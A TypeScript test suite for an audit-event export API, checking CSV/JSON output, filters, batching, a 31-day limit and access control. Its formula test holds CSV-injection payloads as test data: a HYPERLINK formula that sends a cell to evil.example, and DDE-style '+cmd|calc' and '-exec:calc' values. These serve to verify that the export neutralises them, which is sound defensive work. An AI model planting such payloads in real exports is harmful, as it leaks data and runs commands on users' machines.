import { randomUUID } from 'node:crypto';
import { AuditEvent } from '../../src/audit/audit-event.entity';
import { CSV_COLUMNS } from '../../src/audit/audit-export';
import { allPages, auditEvent, AuditEventBody, seedAuditEvents } from '../support/audit-events';
import { bearer, expectError, expectInvalidArgument } from '../support/http-assertions';
import { createTestApp, DATABASE_KIND, TestApp, TestUser } from '../support/test-app';

const EXPORT = '/v1/audit-events/export';
const DAY_MS = 86_400_000;

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

/** The CSV's events as objects of its header's columns (empty cells: ''). */
function csvRecords(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
}

/**
 * GET /v1/audit-events/export (docs/api.md#exporting-audit-events): the list's filters, as CSV or JSON, streamed a batch
 * at a time, within a range of at most 31 days; a cell a spreadsheet would run as a formula is made text; the
 * organization's events only, for those with audit:read.
 */
describe(`GET /v1/audit-events/export on ${DATABASE_KIND}`, () => {
  let t: TestApp;
  let orgs = 0;
  const freshAdmin = (): Promise<TestUser> => t.user({ org: `audit-export-${(orgs += 1)}`, role: 'admin' });

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  const download = (user: TestUser, query: Record<string, string> = {}) =>
    t
      .http()
      .get(EXPORT)
      .query(query)
      .set(bearer(user.token))
      .buffer(true)
      .parse((response, done) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (text += chunk));
        response.on('end', () => done(null, text));
      });

  it('is the list, whole: the same events in the same order with the same fields, as JSON or CSV', async () => {
    const admin = await freshAdmin();
    const key = await t.createKey(admin, 'exported');
    await t.http().patch(`/v1/user-api-keys/${key.id}`).set(bearer(admin.token)).send({ label: 'renamed' }).expect(200);
    await t.http().delete(`/v1/user-api-keys/${key.id}`).set(bearer(admin.token)).expect(200);
    const listed = (await allPages(t, admin, { limit: 2 })).pages.flatMap((page) => page.audit_events);
    expect(listed.map((event) => event.action)).toEqual(['api_key.revoked', 'api_key.updated', 'api_key.created']);

    const json = await download(admin, { format: 'json' }).expect(200);
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(json.headers['cache-control']).toBe('no-store');
    const today = new Date().toISOString().slice(0, 10);
    const monthAgo = new Date(Date.now() - 31 * DAY_MS).toISOString().slice(0, 10);
    expect(json.headers['content-disposition']).toBe(`attachment; filename="audit-events_${monthAgo}_${today}.json"`);
    expect(JSON.parse(json.body as string)).toEqual(listed);

    const csv = await download(admin).expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="audit-events_.*\.csv"$/);
    const records = csvRecords(csv.body as string);
    expect(records.map((record) => record.id)).toEqual(listed.map((event) => event.id));
    // Each cell is the field as the list shows it: text as is, null empty, changes as JSON.
    for (const [i, record] of records.entries()) {
      for (const column of CSV_COLUMNS) {
        const value = (listed[i] as unknown as Record<string, unknown>)[column];
        expect([column, record[column]]).toEqual([
          column,
          value === null ? '' : typeof value === 'string' ? value : JSON.stringify(value),
        ]);
      }
    }
    expect(JSON.parse(records[1].changes)).toEqual({ label: { before: 'exported', after: 'renamed' } });
  });

  it('takes the same filters as the list', async () => {
    const admin = await freshAdmin();
    const other = await t.user({ org: `audit-export-${orgs}`, role: 'member' });
    const now = Date.now();
    const events = [
      auditEvent(admin.organizationId, {
        action: 'api_key.created',
        actorUserId: admin.userId,
        occurredAt: new Date(now - 1000),
      }),
      auditEvent(admin.organizationId, {
        action: 'api_key.revoked',
        actorUserId: admin.userId,
        targetType: 'api_key',
        targetId: randomUUID(),
        occurredAt: new Date(now - 2000),
      }),
      auditEvent(admin.organizationId, {
        action: 'api_key.created',
        actorUserId: other.userId,
        occurredAt: new Date(now - 3000),
      }),
      auditEvent(admin.organizationId, {
        action: 'api_key.created',
        actorUserId: admin.userId,
        occurredAt: new Date(now - 3 * DAY_MS),
      }),
    ];
    await seedAuditEvents(t, events);
    const cases: Array<Record<string, string>> = [
      { action: 'api_key.created' },
      { actor_email: other.email.toUpperCase() },
      { actor_user_id: admin.userId, action: 'api_key.created' },
      { target_id: events[1].targetId! },
      { since: new Date(now - DAY_MS).toISOString() },
      { since: new Date(now - 4 * DAY_MS).toISOString(), until: new Date(now - 1500).toISOString() },
    ];
    for (const filters of cases) {
      const listed = (await allPages(t, admin, filters)).ids;
      const exported = (
        JSON.parse((await download(admin, { ...filters, format: 'json' }).expect(200)).body) as AuditEventBody[]
      ).map((event) => event.id);
      expect({ filters, exported }).toEqual({ filters, exported: listed });
      const csv = csvRecords((await download(admin, filters).expect(200)).body as string).map((record) => record.id);
      expect({ filters, csv }).toEqual({ filters, csv: listed });
    }
    // Bad filters are refused as the list refuses them.
    for (const query of [{ action: 'nope' }, { since: '2026-02-30T00:00:00Z' }, { format: 'xml' }, { limit: '5' }]) {
      expectInvalidArgument(await t.http().get(EXPORT).query(query).set(bearer(admin.token)));
    }
  });

  it('reads batch after batch: every event of a range longer than one batch, once, newest first', async () => {
    const admin = await freshAdmin();
    const now = Date.now();
    const events: AuditEvent[] = Array.from({ length: 1203 }, (_, i) =>
      auditEvent(admin.organizationId, {
        action: 'token.exchange_failed',
        // Several to a millisecond: the keyset's id breaks the ties.
        occurredAt: new Date(now - 10_000 - Math.floor(i / 3)),
      }),
    );
    await seedAuditEvents(t, events);
    const response = await download(admin, { action: 'token.exchange_failed' }).expect(200);
    expect(response.headers['transfer-encoding']).toBe('chunked');
    const ids = csvRecords(response.body as string).map((record) => record.id);
    expect(ids).toHaveLength(1203);
    expect(new Set(ids).size).toBe(1203);
    expect(ids).toEqual((await allPages(t, admin, { action: 'token.exchange_failed', limit: 200 })).ids);
    const json = JSON.parse((await download(admin, { action: 'token.exchange_failed', format: 'json' })).body);
    expect(json).toHaveLength(1203);
  });

  it('covers at most 31 days: until defaults to now, since to 31 days before it; longer is 400', async () => {
    const admin = await freshAdmin();
    const now = Date.now();
    const recent = auditEvent(admin.organizationId, { occurredAt: new Date(now - 30 * DAY_MS) });
    const old = auditEvent(admin.organizationId, { occurredAt: new Date(now - 32 * DAY_MS) });
    await seedAuditEvents(t, [recent, old]);
    const ids = (query: Record<string, string>) =>
      download(admin, { ...query, format: 'json' })
        .expect(200)
        .then((response) => (JSON.parse(response.body) as AuditEventBody[]).map((event) => event.id));
    expect(await ids({})).toEqual([recent.id]);
    expect(await ids({ until: new Date(now - 31 * DAY_MS).toISOString() })).toEqual([old.id]);
    expect(
      await ids({ since: new Date(now - 33 * DAY_MS).toISOString(), until: new Date(now - 2 * DAY_MS).toISOString() }),
    ).toEqual([recent.id, old.id]);
    for (const query of [
      { since: new Date(now - 32 * DAY_MS).toISOString() },
      { since: '2026-01-01T00:00:00Z', until: '2026-02-01T00:00:01Z' },
    ]) {
      expectError(
        await t.http().get(EXPORT).query(query).set(bearer(admin.token)),
        400,
        'INVALID_ARGUMENT',
        'an audit export covers at most 31 days: narrow since and until',
        'audit_export_range_too_long',
      );
    }
    // Exactly 31 days is allowed.
    await download(admin, { since: '2026-01-01T00:00:00Z', until: '2026-02-01T00:00:00Z' }).expect(200);
  });

  it('makes every cell a spreadsheet would run as a formula text: a leading quote, quoted', async () => {
    const admin = await freshAdmin();
    const label = '=HYPERLINK("https://evil.example/?q="&A1,"open")';
    await t.createKey(admin, label);
    await t.createKey(admin, '@SUM(1+1)');
    const created = await t
      .http()
      .post('/v1/user-api-keys')
      .set(bearer(admin.token))
      .set('X-Request-Id', '-exec:calc')
      .send({ label: '+cmd|calc' })
      .expect(201);
    const text = (await download(admin).expect(200)).body as string;
    // As written: no cell starts with a formula character outside quotes.
    for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@]/);
    const records = csvRecords(text);
    expect(records.map((record) => record.target_label)).toEqual(
      expect.arrayContaining([`'${label}`, "'@SUM(1+1)", "'+cmd|calc"]),
    );
    const byRequest = records.find((record) => record.target_id === created.body.api_key.id)!;
    expect(byRequest.request_id).toBe("'-exec:calc");
    // JSON is data, not a spreadsheet: the values as they are.
    const json = JSON.parse((await download(admin, { format: 'json' }).expect(200)).body) as AuditEventBody[];
    expect(json.map((event) => (event as unknown as { target_label: string }).target_label)).toContain(label);
  });

  it("is the organization's own and an admin's: another organization's events never, a member 403, empty is a header", async () => {
    const admin = await freshAdmin();
    const elsewhere = await t.user({ org: `audit-export-elsewhere-${orgs}`, role: 'admin' });
    const theirs = await t.createKey(elsewhere, 'theirs');
    const mine = await t.createKey(admin, 'mine');
    const text = JSON.stringify(JSON.parse((await download(admin, { format: 'json' }).expect(200)).body));
    expect(text).toContain(mine.id);
    expect(text).not.toContain(theirs.id);
    expect(text).not.toContain(elsewhere.organizationId);
    const member = await t.user({ org: `audit-export-${orgs}`, role: 'member' });
    expectError(
      await t.http().get(EXPORT).set(bearer(member.token)),
      403,
      'PERMISSION_DENIED',
      'insufficient permissions',
      'insufficient_permissions',
    );
    expect((await t.http().get(EXPORT)).status).toBe(401);
    const empty = await download(admin, { action: 'grant.revoked' }).expect(200);
    expect(empty.body).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect((await download(admin, { action: 'grant.revoked', format: 'json' }).expect(200)).body).toBe('[]');
  });
});
